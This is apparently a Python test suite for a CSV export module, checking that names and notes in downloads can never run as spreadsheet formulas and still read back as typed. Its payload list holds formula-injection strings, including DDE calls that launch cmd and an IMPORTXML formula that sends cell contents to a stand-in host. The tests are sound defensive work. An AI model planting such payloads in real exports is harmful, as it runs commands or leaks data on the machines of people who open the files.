"""No cell of any download can run as a formula, and reading an export gives back what was typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from formats._csv.cells import quoted
from formats.csvcodec import (
    ACCOUNT_EXPORT_COLUMNS,
    COMPUTED_COLUMNS,
    COUNT_COLUMNS,
    EVIDENCE_EXPORT_COLUMNS,
    NOTE_MAX,
    READ_SEPARATORS,
    Row,
    Scored,
    columns,
    read_rows,
    safe_cell,
    unsafe_cell,
    write_accounts,
    write_evidence,
    write_rows,
)
from scoring import Answer, Kind, Stage, Verdict, default_rubric, evaluate
from scoring.status import Status
from tests.csv_payloads import CROSS_SEPARATOR_PAYLOADS

RUBRIC = default_rubric()
DANGEROUS_STARTS = tuple("=+-@\t\r\n＝＋－＠")
# What a spreadsheet may cut a cell at when it splits on a separator other than the file's,
# and the characters that start a formula in the piece behind the cut.
BREAKS = ',;\t|"\r\n'
FORMULA_CHARS = tuple("=+-@＝＋－＠")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|'/c notepad'!A1",
    "'=already quoted",
    "''+twice quoted",
    'DDE("cmd";"/c calc";"")',
    " =space first",
    "   @three spaces",
    "=1;=2",
    "=1,=2",
    '="quoted, with ""quotes"""',
    "-",
    "+",
    "@",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "\t",
    "-5",
    "+31 6 12345678",
    "=\n=multi\n=line",
    "'",
    "'tis plain text",
    *CROSS_SEPARATOR_PAYLOADS,
    "；＝1",  # a full-width semicolon is no break character: the text has no formula start
    "a; ' =1",
]


def cells_of(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def runnable(cell: str) -> bool:
    """A cell a spreadsheet could run: a formula start, also after spaces it might trim."""
    return cell.lstrip(" ").startswith(DANGEROUS_STARTS)


def runs_when_cut(field: str) -> bool:
    """A field a spreadsheet could run after cutting a cell of ours: a formula character first,
    past whatever it might trim or take for a stray quote (spaces, tab, line breaks, `"`).
    A negative number on its own is a number (the numeric columns write `-5` as it is)."""
    start = field.lstrip(' \t\r\n"')
    return start.startswith(FORMULA_CHARS) and not PLAIN_NUMBER.fullmatch(start)


def fields_by_csv(text: str, sep: str) -> list[str]:
    """The file as a spreadsheet that respects quotes reads it with `sep`, whatever it was written with."""
    return [cell for cells in cells_of(text, sep) for cell in cells]


def fields_ignoring_quotes(text: str, sep: str) -> list[str]:
    """The file as a spreadsheet that ignores quotes reads it: cut at `sep` and every line break."""
    return re.split(f"[{re.escape(sep)}\r\n]", text)


SPLITTERS = {"csv": fields_by_csv, "raw": fields_ignoring_quotes}


def assessment(account: str, note: str = "", **fields: object) -> Row:
    values: dict[str, object] = {
        "account": account,
        "taken_on": dt.date(2025, 3, 1),
        "kind": Kind.SCREEN,
        "gut": Verdict.HELL_YES,
        "answers": dict.fromkeys(RUBRIC.keys, Answer.HELL_YES),
        "note": note,
    }
    return Row.model_validate(values | fields)


# --- payloads through every download --------------------------------------------------------


@pytest.mark.parametrize("sep", READ_SEPARATORS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_name_or_note_never_starts_a_cell_and_reads_back_as_typed(
    payload: str, sep: str
) -> None:
    rows = [
        assessment(payload.strip() or "x", payload),  # names are stripped, so the payload as it can be
        assessment("Acme " + payload, payload + " tail"),
    ]
    scored = [
        Scored(row, (r := evaluate(RUBRIC, row.answers, row.gut)).score, r.verdict, None, payload)
        for row in rows
    ]

    text = write_rows(scored, RUBRIC, sep)

    assert [cell for cells in cells_of(text, sep) for cell in cells if runnable(cell)] == []
    read, errors = read_rows(text, RUBRIC)
    assert errors == []
    assert read == rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_the_accounts_download_is_neutralised_and_the_text_kept(payload: str) -> None:
    row = {
        "account_id": 7,
        "account": payload,
        "company": payload,
        "stage": Stage.CLIENT,
        "outcome": payload,
        "verdict": payload,
        "status": payload,
        "reason": payload,
    }

    cells = cells_of(write_accounts([row], ";"), ";")

    assert [cell for cell in cells[1] if runnable(cell)] == []
    read = dict(zip(cells[0], (unsafe_cell(cell) for cell in cells[1]), strict=True))
    assert {
        name: read[name] for name in ("account", "company", "outcome", "verdict", "status", "reason")
    } == (dict.fromkeys(("account", "company", "outcome", "verdict", "status", "reason"), payload))
    assert (read["account_id"], read["stage"]) == ("7", "client")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_the_evidence_log_is_neutralised_and_the_text_kept(payload: str) -> None:
    text = write_evidence([(payload, dt.date(2025, 5, 4), payload), ("Acme", dt.date(2025, 5, 5), payload)])

    cells = cells_of(text)

    assert [cell for line in cells[1:] for cell in line if runnable(cell)] == []
    assert [[unsafe_cell(cell) for cell in line] for line in cells[1:]] == [
        [payload, "2025-05-04", payload, ""],
        ["Acme", "2025-05-05", payload, ""],
    ]


def test_the_payload_list_covers_every_dangerous_start() -> None:
    firsts = {payload.lstrip(" '")[:1] for payload in PAYLOADS}

    assert len(PAYLOADS) >= 20
    assert set(DANGEROUS_STARTS) <= firsts


def test_a_space_before_a_formula_is_no_way_around_the_quote() -> None:
    assert safe_cell(" =1+1") == "' =1+1"
    assert safe_cell("'  @x") == "''  @x"
    assert unsafe_cell(safe_cell(" =1+1")) == " =1+1"


def test_text_that_only_looks_odd_is_left_alone() -> None:
    for text in ["", "plain", "'tis", "a=b", "1-2", "#hash", "%pct", "|pipe", "Zoë =x"]:
        assert safe_cell(text) == text
        assert unsafe_cell(text) == text


# --- cut at another separator ---------------------------------------------------------------
# Dutch or German Excel opens a `,` file on `;`; LibreOffice may be told `,` for a `;` file,
# or tab or `|`. Each download, written with `,` and with `;`, is read back with every
# separator, once as the csv module reads it (quotes respected) and once cut at the separator
# and every line break with quotes ignored: no piece may start with a formula.


def assessment_download(sep: str) -> tuple[str, list[Row]]:
    rows = [assessment(payload.strip() or "x", payload) for payload in PAYLOADS]
    rows += [assessment(f"Acme {payload}", f"note {payload}") for payload in PAYLOADS]
    scored = [
        Scored(row, (r := evaluate(RUBRIC, row.answers, row.gut)).score, r.verdict, Status.WATCH, row.note)
        for row in rows
    ]
    return write_rows(scored, RUBRIC, sep), rows


TEXT_ACCOUNT_COLUMNS = ("account", "company", "outcome", "verdict", "status", "reason")


def account_download(sep: str) -> str:
    rows = [
        {
            "account_id": number,
            **dict.fromkeys(TEXT_ACCOUNT_COLUMNS, payload),
            "company": f"Acme {payload}",
            "stage": Stage.CLIENT,
            "deal_value": -5,
            "score": 62.5,
        }
        for number, payload in enumerate(PAYLOADS)
    ]
    return write_accounts(rows, sep)


def evidence_download(sep: str) -> str:
    day = dt.date(2025, 5, 4)
    entries = [(p, day, p) for p in PAYLOADS] + [(f"Acme {p}", day, f"note {p}") for p in PAYLOADS]
    return write_evidence(entries, sep)


DOWNLOADS: dict[str, Callable[[str], str]] = {
    "assessments": lambda sep: assessment_download(sep)[0],
    "accounts": account_download,
    "evidence": evidence_download,
}


@pytest.mark.parametrize("splitter", SPLITTERS)
@pytest.mark.parametrize("read_with", READ_SEPARATORS)
@pytest.mark.parametrize("written_with", [",", ";"])
@pytest.mark.parametrize("download", DOWNLOADS)
def test_no_download_holds_a_formula_whatever_separator_a_spreadsheet_cuts_it_at(
    download: str, written_with: str, read_with: str, splitter: str
) -> None:
    text = DOWNLOADS[download](written_with)

    fields = SPLITTERS[splitter](text, read_with)

    assert [field for field in fields if runs_when_cut(field)] == []


@pytest.mark.parametrize("sep", [",", ";"])
def test_every_download_read_with_its_own_separator_gives_back_what_was_typed(sep: str) -> None:
    text, rows = assessment_download(sep)
    read, errors = read_rows(text, RUBRIC)
    assert errors == []
    assert read == rows

    accounts = cells_of(account_download(sep), sep)
    at = {name: i for i, name in enumerate(accounts[0])}
    assert [[unsafe_cell(line[at[name]]) for name in TEXT_ACCOUNT_COLUMNS] for line in accounts[1:]] == [
        [p, f"Acme {p}", p, p, p, p] for p in PAYLOADS
    ]
    # A `;` file is for a spreadsheet that writes decimal commas (`decimal_mark`).
    score = "62.5" if sep == "," else "62,5"
    assert {(line[at["deal_value"]], line[at["score"]]) for line in accounts[1:]} == {("-5", score)}

    evidence = [[unsafe_cell(cell) for cell in line] for line in cells_of(evidence_download(sep), sep)[1:]]
    day = "2025-05-04"
    assert evidence == [[p, day, p, ""] for p in PAYLOADS] + [
        [f"Acme {p}", day, f"note {p}", ""] for p in PAYLOADS
    ]


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (";=after separator", ";'=after separator"),
        ("=1+1;=2+2", "'=1+1;'=2+2"),
        ("a,=1", "a,'=1"),
        ("x|=1", "x|'=1"),
        ("a\t=1", "a\t'=1"),
        ('"=1', "\"'=1"),
        ("a\n=1", "a\n'=1"),
        ("a\r\n+1", "a\r\n'+1"),  # CR is followed by LF, no formula character: only LF gets one
        ("n;-2+3", "n;'-2+3"),
        ("x,@SUM(1)", "x,'@SUM(1)"),
        ("a;＝1", "a;'＝1"),
        ("\t=1", "'\t'=1"),  # a tab at the start is a formula start and a break character
        ("a;\t=1", "a;\t'=1"),  # a tab is no formula character behind a break: what follows it is judged
        ("a; ' =1", "a;' ' =1"),  # quotes and spaces are looked past, as at the start
        ("a;'=1", "a;''=1"),  # an author's quote gets one more, so reading can tell them apart
        ("a;;=1", "a;;'=1"),
        ("；＝1", "；＝1"),  # full-width separators are no break characters
        ("a；＝1", "a；＝1"),
        ("a=b;c-d,e", "a=b;c-d,e"),  # a formula character inside a piece is harmless
        ("x;y|z", "x;y|z"),
    ],
)
def test_a_formula_start_behind_a_break_character_gets_a_quote_of_its_own(typed: str, written: str) -> None:
    assert safe_cell(typed) == written
    assert unsafe_cell(written) == typed


# --- numbers and headers ---------------------------------------------------------------------


def test_numeric_columns_of_the_assessment_file_are_plain_numbers() -> None:
    row = assessment("-Acme", invoice_days_late=0, out_of_scope_requests=3, missed_meetings=12)
    result = evaluate(RUBRIC, row.answers, row.gut)

    cells = cells_of(write_rows([Scored(row, result.score, result.verdict, Status.WATCH, "payment")], RUBRIC))
    written = dict(zip(cells[0], cells[1], strict=True))

    assert [written[name] for name in (*COUNT_COLUMNS, "score")] == ["0", "3", "12", "", "100"]
    assert written["account"] == "'-Acme"


def test_numbers_in_the_accounts_download_stay_numbers_even_when_negative() -> None:
    rows: list[dict[str, object]] = [
        {"account": "A", "deal_value": -5, "score": -5.0, "assessments": 0, "account_id": 1},
        {"account": "B", "deal_value": Decimal("-1250.50"), "score": 92.5},
        {"account": "C", "deal_value": "-12.5", "score": "-3"},  # numbers that arrive as text
        {"account": "D", "deal_value": 0.1, "score": 79.96},
    ]

    cells = cells_of(write_accounts(rows))
    at = {name: i for i, name in enumerate(cells[0])}

    assert [[line[at[name]] for name in ("deal_value", "score")] for line in cells[1:]] == [
        ["-5", "-5"],
        ["-1250.50", "92.5"],
        ["-12.5", "-3"],
        ["0.1", "79.9"],  # a score reads as it does on screen: truncated, never rounded up
    ]


def test_text_in_a_numeric_column_that_is_no_number_is_still_neutralised() -> None:
    cells = cells_of(write_accounts([{"account": "A", "deal_value": "-1+1", "score": "=2"}]))
    at = {name: i for i, name in enumerate(cells[0])}

    assert (cells[1][at["deal_value"]], cells[1][at["score"]]) == ("'-1+1", "'=2")


def test_a_negative_number_written_as_text_in_a_text_column_is_neutralised() -> None:
    cells = cells_of(write_accounts([{"account": "-5", "reason": "-5"}]))
    at = {name: i for i, name in enumerate(cells[0])}

    assert (cells[1][at["account"]], cells[1][at["reason"]]) == ("'-5", "'-5")


@pytest.mark.parametrize("sep", READ_SEPARATORS)
def test_every_header_is_the_documented_names_and_none_can_run(sep: str) -> None:
    headers = [
        cells_of(write_rows([], RUBRIC, sep), sep)[0],
        cells_of(write_accounts([], sep), sep)[0],
        cells_of(write_evidence([], sep), sep)[0],
    ]

    assert headers == [list(columns(RUBRIC)), list(ACCOUNT_EXPORT_COLUMNS), list(EVIDENCE_EXPORT_COLUMNS)]
    assert [name for header in headers for name in header if runnable(name)] == []
    assert headers[0][-len(COMPUTED_COLUMNS) :] == list(COMPUTED_COLUMNS)


# --- arbitrary text round-trips --------------------------------------------------------------

TRICKY = list(",;|\t\"'\r\n =+-@＝＋－＠\u2028\u00a0")
CHARACTERS = st.one_of(st.sampled_from(TRICKY), st.characters(exclude_categories=["Cs"]))
NAMES = (
    st.text(CHARACTERS, min_size=1, max_size=200)
    .map(str.strip)  # names are stripped on the way in, so generate them as they are kept
    .filter(lambda name: 1 <= len(name) <= 200)
)
NOTES = st.one_of(
    st.text(CHARACTERS, max_size=300),
    st.tuples(st.sampled_from([*DANGEROUS_STARTS, "'", " ", "'="]), st.text(CHARACTERS, max_size=100)).map(
        "".join
    ),
)


@settings(max_examples=300, deadline=None)
@given(
    names=st.lists(NAMES, min_size=1, max_size=4),
    notes=st.lists(NOTES, min_size=1, max_size=4),
    sep=st.sampled_from(READ_SEPARATORS),
)
@example(names=["=1+1"], notes=["'\r\n=x"], sep=";")
@example(names=["a\u2028b"], notes=["\r"], sep="\t")
def test_any_unicode_name_and_note_round_trip_through_a_file(
    names: list[str], notes: list[str], sep: str
) -> None:
    rows = [
        assessment(name, notes[i % len(notes)], taken_on=dt.date(2025, 1, 1) + dt.timedelta(days=i))
        for i, name in enumerate(names)
    ]

    text = write_rows([(row, None) for row in rows], RUBRIC, sep)

    read, errors = read_rows(text, RUBRIC)
    assert errors == []
    assert [(r.account, r.note) for r in read] == [(r.account, r.note) for r in rows]
    assert [cell for cells in cells_of(text, sep) for cell in cells if runnable(cell)] == []
    for read_with in READ_SEPARATORS:
        for split in SPLITTERS.values():
            assert [field for field in split(text, read_with) if runs_when_cut(field)] == []


@given(st.text(CHARACTERS, max_size=NOTE_MAX // 100))
@example("=1+1;=2+2")
@example("a\r\n+1")
@example("a;'=1")
def test_unsafe_cell_undoes_safe_cell_for_any_text_and_no_piece_of_it_starts_a_formula(text: str) -> None:
    written = safe_cell(text)

    assert unsafe_cell(written) == text
    assert not runnable(written)
    pieces = re.split(f"[{re.escape(BREAKS)}]", written)
    assert [piece for piece in pieces if piece.lstrip(" ").startswith(FORMULA_CHARS)] == []


# A quote of the author's behind a break character and before a formula character: a file
# exported before the rule after break characters reads differently there, and only there.
AUTHORS_QUOTE_AFTER_BREAK = re.compile(r"""[,;\t|"\r\n]'[' ]*[=+\-@＝＋－＠]""")


@settings(max_examples=300)
@given(st.text(st.one_of(st.sampled_from([*TRICKY, "；"]), st.characters(exclude_categories=["Cs"]))))
@example("a;=1")
@example("'=1;=2")
@example("a;'=1")
def test_a_cell_written_before_the_rule_after_break_characters_reads_as_it_did(text: str) -> None:
    """Files exported before quoted only a formula start at the start of a cell."""
    written_before = "'" + text if text.lstrip("' ").startswith(DANGEROUS_STARTS) else text

    if AUTHORS_QUOTE_AFTER_BREAK.search(text):
        assert unsafe_cell(written_before) != text  # `a;'=1` reads as `a;=1`
    else:
        assert unsafe_cell(written_before) == text


@settings(max_examples=300)
@given(text=st.text(CHARACTERS))
@example(text="")
@example(text='a "quoted"; word,\r\nnext')
@example(text="tab\there")
@example(text="semi;colon")
def test_a_cell_with_any_break_character_is_quoted_and_reads_whole_with_every_separator(text: str) -> None:
    """One quoting for every file: a spreadsheet splitting on any separator keeps the cell whole."""
    cell = quoted(text)

    assert (cell != text) == any(char in text for char in BREAKS)
    for sep in READ_SEPARATORS:
        assert cells_of(cell + sep + "x\r\n", sep) == [[text, "x"]]
        # Where the csv module quotes (or does not quote at all), the very same bytes.
        out = io.StringIO()
        csv.writer(out, delimiter=sep, lineterminator="\r\n").writerow([text, "x"])
        if cell == text or out.getvalue().startswith('"'):
            assert cell + sep + "x\r\n" == out.getvalue()
